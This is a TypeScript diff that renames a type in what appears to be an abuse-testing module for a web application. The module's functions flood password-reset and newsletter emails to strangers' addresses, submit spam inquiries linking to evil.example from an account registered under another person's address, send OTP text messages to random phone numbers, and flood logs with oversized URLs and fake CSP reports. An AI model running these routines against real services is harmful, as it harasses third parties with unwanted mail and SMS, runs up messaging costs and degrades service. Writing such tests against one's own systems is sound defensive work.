@@ -8,7 +8,7 @@ import {
   attackDurationMs,
   buildRawPost,
   sendRaw,
-  type Target,
+  type AttackTarget,
 } from './send.js';
 
 export const spamText = 'Win at https://evil.example now. ';
@@ -19,7 +19,7 @@ const stranger = () => `stranger-${randomToken()}@example.com`;
  * Triggers emails to other people's addresses through every route that sends email, and submits
  * inquiries from an account that was registered with another person's address.
  */
-export async function floodMails(target: Target) {
+export async function floodMails(target: AttackTarget) {
   const lost = () =>
     sendRaw(target, buildRawPost('/api/api/forgot-password', { email: stranger() }), 3000);
   const news = () =>
@@ -36,7 +36,7 @@ export async function floodMails(target: Target) {
  * Submits inquiries with a spam text from an account whose email address belongs to another person.
  * Returns the HTTP statuses.
  */
-export async function submitSpamInquiries({ url }: Target, times: number) {
+export async function submitSpamInquiries({ url }: AttackTarget, times: number) {
   const { email, uid, send: call } = await registerCustomer(url, randomLoopbackAddress());
   const all = (await call('GET', '/api/api/all')).json() as { _id: string }[];
   const statuses: number[] = [];
@@ -48,7 +48,7 @@ export async function submitSpamInquiries({ url }: Target, times: number) {
   return { email, statuses };
 }
 
-export async function floodSignInCodes(target: Target) {
+export async function floodSignInCodes(target: AttackTarget) {
   await repeat(attackDurationMs / 40, 40, () => {
     const phone = randomMobileNumber();
     sendRaw(target, buildRawPost('/api/api/send-otp', { phone }), 3000);
@@ -59,7 +59,7 @@ export async function floodSignInCodes(target: Target) {
 const report = { 'csp-report': { 'violated-directive': 'script-src', 'blocked-uri': 'inline' } };
 
 /** Sends requests that cause log entries: requests with long URLs, browser reports and malformed requests. */
-export async function floodLogs(target: Target) {
+export async function floodLogs(target: AttackTarget) {
   await repeat(attackDurationMs / 10, 10, () => {
     sendRaw(target, buildRawGet(`/api/${'x'.repeat(14_000)}`), 1000);
     sendRaw(target, buildRawPost('/api/api/csp-report', report, 'application/csp-report'), 1000);
